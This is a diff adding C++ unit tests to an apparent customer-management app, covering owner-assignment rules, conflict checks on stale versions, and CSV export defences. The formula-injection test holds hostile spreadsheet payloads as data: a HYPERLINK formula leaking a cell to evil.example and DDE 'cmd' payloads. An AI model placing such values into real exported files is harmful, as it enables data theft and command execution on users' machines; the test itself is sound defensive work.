@@ -11,6 +11,7 @@
 #include "support/TestDatabase.h"
 
 #include <QFile>
+#include <QTemporaryDir>
 
 #include <gtest/gtest.h>
 
@@ -440,6 +441,211 @@ TEST_P(CustomerServiceTest, business_dealings_list_the_customers_entertainment_r
     ASSERT_EQ(rows.size(), 1);
     EXPECT_EQ(rows.first().request.id, request.id);
     EXPECT_EQ(rows.first().customerName, QStringLiteral("华信"));
+}
+
+// Issue 9 "rules live in widgets": one owner rule (§3.2.1) for add, assign and import.
+TEST_P(CustomerServiceTest, eligible_owners_follow_the_actors_reach)
+{
+    const auto logins = [](const services::OwnerChoices &choices) {
+        QStringList list;
+        for (const auto &user : choices.people)
+            list << user.login;
+        list.sort();
+        return list;
+    };
+    const auto manager = services::CustomerService(as(QStringLiteral("manager1"))).eligibleOwners();
+    EXPECT_EQ(logins(manager), (QStringList{QStringLiteral("manager1"), QStringLiteral("sales1"), QStringLiteral("sales2")}));
+    EXPECT_EQ(manager.people.first().login, QStringLiteral("manager1")); // the acting user first
+    EXPECT_TRUE(manager.pool);
+    const auto specialist = services::CustomerService(as(QStringLiteral("sales1"))).eligibleOwners();
+    EXPECT_EQ(logins(specialist), QStringList{QStringLiteral("sales1")});
+    EXPECT_FALSE(specialist.pool);
+    const auto director = services::CustomerService(as(QStringLiteral("director"))).eligibleOwners();
+    EXPECT_TRUE(logins(director).contains(QStringLiteral("sales3")));
+    EXPECT_TRUE(logins(director).contains(QStringLiteral("manager2")));
+    EXPECT_FALSE(logins(director).contains(QStringLiteral("finance"))); // does not work with customers
+    EXPECT_FALSE(logins(director).contains(QStringLiteral("executive")));
+
+    storage::SqlQuery(database(), QStringLiteral("UPDATE users SET active = 0 WHERE login = 'sales2'")).exec();
+    EXPECT_FALSE(logins(services::CustomerService(as(QStringLiteral("manager1"))).eligibleOwners()).contains(QStringLiteral("sales2")));
+}
+
+TEST_P(CustomerServiceTest, a_manager_cannot_add_for_another_departments_specialist_exactly_like_assign)
+{
+    services::CustomerService manager(as(QStringLiteral("manager1")));
+    auto input = company(QStringLiteral("二部的客户"));
+    input.ownerLogin = QStringLiteral("sales3");
+    QString addRefusal;
+    try {
+        manager.add(input);
+        ADD_FAILURE() << "a manager added a customer for another department";
+    } catch (const domain::Error &error) {
+        EXPECT_EQ(error.kind(), domain::ErrorKind::Denied);
+        addRefusal = error.message();
+    }
+    const auto own = manager.add(company(QStringLiteral("一部的客户")));
+    QString assignRefusal;
+    try {
+        manager.assign(own.id, QStringLiteral("sales3"));
+        ADD_FAILURE() << "a manager assigned a customer to another department";
+    } catch (const domain::Error &error) {
+        EXPECT_EQ(error.kind(), domain::ErrorKind::Denied);
+        assignRefusal = error.message();
+    }
+    EXPECT_EQ(addRefusal, assignRefusal);
+    input.ownerLogin = QStringLiteral("finance");
+    EXPECT_ERROR_KIND(manager.add(input), Invalid);
+    EXPECT_ERROR_KIND(manager.assign(own.id, QStringLiteral("finance")), Invalid);
+    input.ownerLogin = QStringLiteral("sales2");
+    EXPECT_EQ(manager.add(input).ownerId, organisation().id(QStringLiteral("sales2")));
+    // The director reaches every department.
+    auto forSales3 = company(QStringLiteral("总监分配的客户"));
+    forSales3.ownerLogin = QStringLiteral("sales3");
+    EXPECT_EQ(services::CustomerService(as(QStringLiteral("director"))).add(forSales3).ownerId, organisation().id(QStringLiteral("sales3")));
+
+    // An import applies the same rule per row.
+    services::ImportTable table;
+    table.headers = QStringList{QStringLiteral("客户名称"), QStringLiteral("负责人")};
+    table.rows = {QStringList{QStringLiteral("导入一部"), QStringLiteral("sales1")}, QStringList{QStringLiteral("导入二部"), QStringLiteral("sales3")}};
+    table.lines = {2, 3};
+    const auto report = services::CustomerImport(as(QStringLiteral("manager1"))).run(table, services::CustomerImport::guessMapping(table.headers), false);
+    EXPECT_EQ(report.imported, 1);
+    ASSERT_EQ(report.rejected.size(), 1);
+    EXPECT_EQ(report.rejected.first().line, 3);
+    EXPECT_EQ(report.rejected.first().error, addRefusal);
+}
+
+// Issue 8 §4 "refused adds that write": every check comes before the first write.
+TEST_P(CustomerServiceTest, a_refused_add_leaves_no_customer_and_no_audit_entry)
+{
+    const auto auditRows = [this] {
+        return storage::SqlQuery(database(), QStringLiteral("SELECT count(*) FROM audit_log WHERE entity_kind = 'customer'")).scalar().toLongLong();
+    };
+    services::CustomerService manager(as(QStringLiteral("manager1")));
+    auto input = company(QStringLiteral("不该写入的客户"));
+    input.contactName = QStringLiteral("张伟");
+    input.ownerLogin = QStringLiteral("sales3"); // another department
+    EXPECT_ERROR_KIND(manager.add(input), Denied);
+    input.ownerLogin = QStringLiteral("nobody");
+    EXPECT_ERROR_KIND(manager.add(input), NotFound);
+    input.ownerLogin.clear();
+    input.segment = QStringLiteral("不存在的细分");
+    EXPECT_ERROR_KIND(manager.add(input), NotFound);
+    input.segment.clear();
+    input.contactPhone = QStringLiteral("not a phone");
+    EXPECT_ERROR_KIND(manager.add(input), Invalid);
+    EXPECT_EQ(rows("customers"), 0);
+    EXPECT_EQ(rows("customer_contacts"), 0);
+    EXPECT_EQ(auditRows(), 0);
+}
+
+// Issue 8 §7: the caller names the version it saw; a stale one changes nothing.
+TEST_P(CustomerServiceTest, state_changes_with_a_stale_version_are_conflicts_and_write_nothing)
+{
+    services::CustomerService sales1(as(QStringLiteral("sales1")));
+    const auto customer = sales1.add(company(QStringLiteral("华信")));
+    const int seen = customer.version;
+    const auto moved = sales1.changeStage(customer.id, Stage::Contacted, {}, seen); // matches: done
+    EXPECT_EQ(moved.version, seen + 1);
+    const qint64 audits = rows("audit_log");
+    const qint64 transitions = rows("workflow_transitions");
+    EXPECT_ERROR_KIND(sales1.changeStage(customer.id, Stage::NeedsAnalysis, {}, seen), Conflict);
+    EXPECT_ERROR_KIND(sales1.release(customer.id, seen), Conflict);
+    services::CustomerService manager(as(QStringLiteral("manager1")));
+    EXPECT_ERROR_KIND(manager.assign(customer.id, QStringLiteral("sales2"), seen), Conflict);
+    domain::Customer edited = customer; // the version read before the stage change
+    edited.notes = QStringLiteral("过时的修改");
+    EXPECT_ERROR_KIND(sales1.update(edited), Conflict);
+    EXPECT_EQ(rows("audit_log"), audits);
+    const auto complaint = sales1.recordContact(customer.id, domain::ContactKind::Complaint, QStringLiteral("交付延期"), {}, {});
+    sales1.updateComplaint(complaint.id, domain::ComplaintStatus::InProgress, {}, complaint.version);
+    EXPECT_ERROR_KIND(sales1.updateComplaint(complaint.id, domain::ComplaintStatus::Resolved, QStringLiteral("补发"), complaint.version), Conflict);
+    const qint64 winBack = sales1.recordWinBack(customer.id, QStringLiteral("竞争对手降价"), QStringLiteral("九折优惠"));
+    const int winBackVersion = sales1.winBacks(customer.id).first().value(QStringLiteral("version")).toInt();
+    const qint64 afterWinBack = rows("audit_log");
+    EXPECT_ERROR_KIND(sales1.winBackResult(winBack, true, {}, winBackVersion + 1), Conflict);
+    EXPECT_EQ(rows("audit_log"), afterWinBack);
+
+    const domain::Customer now = sales1.customer(customer.id);
+    EXPECT_EQ(now.version, moved.version);
+    EXPECT_EQ(now.stage, Stage::Contacted);
+    EXPECT_EQ(now.ownerId, organisation().id(QStringLiteral("sales1")));
+    EXPECT_TRUE(now.notes.isEmpty());
+    EXPECT_EQ(rows("workflow_transitions"), transitions);
+    EXPECT_EQ(sales1.details(customer.id).log.first().complaintStatus, domain::ComplaintStatus::InProgress);
+
+    // In the pool, a claim with the version seen before someone else's change is refused too.
+    const auto pooled = manager.release(customer.id, now.version);
+    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales2"))).claim(customer.id, now.version), Conflict);
+    EXPECT_EQ(services::CustomerService(as(QStringLiteral("sales2"))).claim(customer.id, pooled.version).ownerId,
+              organisation().id(QStringLiteral("sales2")));
+}
+
+// Issue 8 §4 formula injection: hostile names are exported as text, not as formulas.
+TEST_P(CustomerServiceTest, csv_export_neutralises_formulas_and_imports_them_back_verbatim)
+{
+    services::CustomerService service(as(QStringLiteral("sales1")));
+    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"), QStringLiteral("+cmd|' /C calc'!A0"),
+                              QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+                              QStringLiteral("＝1+1 全角等号")};
+    for (const QString &name : hostile)
+        service.add(company(name));
+    auto formulaNotes = company(QStringLiteral("备注是公式的客户"));
+    formulaNotes.notes = QStringLiteral("=1+1");
+    service.add(formulaNotes);
+    const QString csv = m_scratch->pathFor(QStringLiteral("hostile.csv"));
+    ASSERT_EQ(service.exportTo({}, csv), hostile.size() + 1);
+    QFile file(csv);
+    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(file.readAll());
+    for (const QString &line : text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts).mid(1)) {
+        // No cell may start with a formula character: not the first, not after a separator.
+        EXPECT_FALSE(line.startsWith(QLatin1Char('=')) || line.startsWith(QLatin1Char('+')) || line.startsWith(QLatin1Char('-'))
+                     || line.startsWith(QLatin1Char('@')) || line.startsWith(QChar(0xFF1D)))
+            << line.toStdString();
+        EXPECT_FALSE(line.contains(QStringLiteral(",=")) || line.contains(QStringLiteral(",+")) || line.contains(QStringLiteral(",-"))
+                     || line.contains(QStringLiteral(",@")) || line.contains(QStringLiteral(",\"=")) || line.contains(QStringLiteral(",\"\t")))
+            << line.toStdString();
+    }
+    EXPECT_TRUE(text.contains(QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\""))) << text.toStdString();
+    EXPECT_TRUE(text.contains(QStringLiteral("'+cmd|' /C calc'!A0")));
+    EXPECT_TRUE(text.contains(QStringLiteral("'＝1+1 全角等号")));
+    EXPECT_TRUE(text.contains(QStringLiteral(",'=1+1,")));
+    // Read back, the cells are the names as they were.
+    const auto table = services::CustomerImport::read(csv);
+    const int nameColumn = services::CustomerImport::guessMapping(table.headers).indexOf(QStringLiteral("name"));
+    QStringList names;
+    for (const auto &row : table.rows)
+        names << row.at(nameColumn);
+    for (const QString &name : hostile)
+        EXPECT_TRUE(names.contains(name)) << name.toStdString();
+}
+
+TEST(TableExportTest, only_text_cells_are_prefixed_and_numbers_stay_numbers)
+{
+    using services::ExportTable;
+    using services::TableExport;
+    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
+    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("\r=1")), QStringLiteral("'\r=1"));
+    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("\t=1")), QStringLiteral("'\t=1"));
+    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("@A1")), QStringLiteral("'@A1"));
+    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("a=1")), QStringLiteral("a=1"));
+    EXPECT_EQ(TableExport::neutraliseFormula(QString()), QString());
+    EXPECT_EQ(TableExport::restoreNeutralised(QStringLiteral("'-5")), QStringLiteral("-5"));
+    EXPECT_EQ(TableExport::restoreNeutralised(QStringLiteral("'quoted")), QStringLiteral("'quoted"));
+
+    ExportTable table;
+    table.columns = {{QStringLiteral("Text"), ExportTable::ColumnKind::Text}, {QStringLiteral("Amount"), ExportTable::ColumnKind::Money},
+                     {QStringLiteral("Count"), ExportTable::ColumnKind::Integer}};
+    table.rows = {{QStringLiteral("-12.50"), QVariant(qint64(-1250)), QVariant(qint64(-3))}};
+    QTemporaryDir folder;
+    const QString path = folder.filePath(QStringLiteral("numbers.csv"));
+    TableExport::write(table, path);
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(file.readAll());
+    // Negative amounts and counts stay numbers Excel can add up; the same text in a text column is prefixed.
+    EXPECT_TRUE(text.endsWith(QStringLiteral("'-12.50,-12.50,-3\r\n"))) << text.toStdString();
 }
 
 BIZDESK_INSTANTIATE_BACKENDS(CustomerServiceTest);
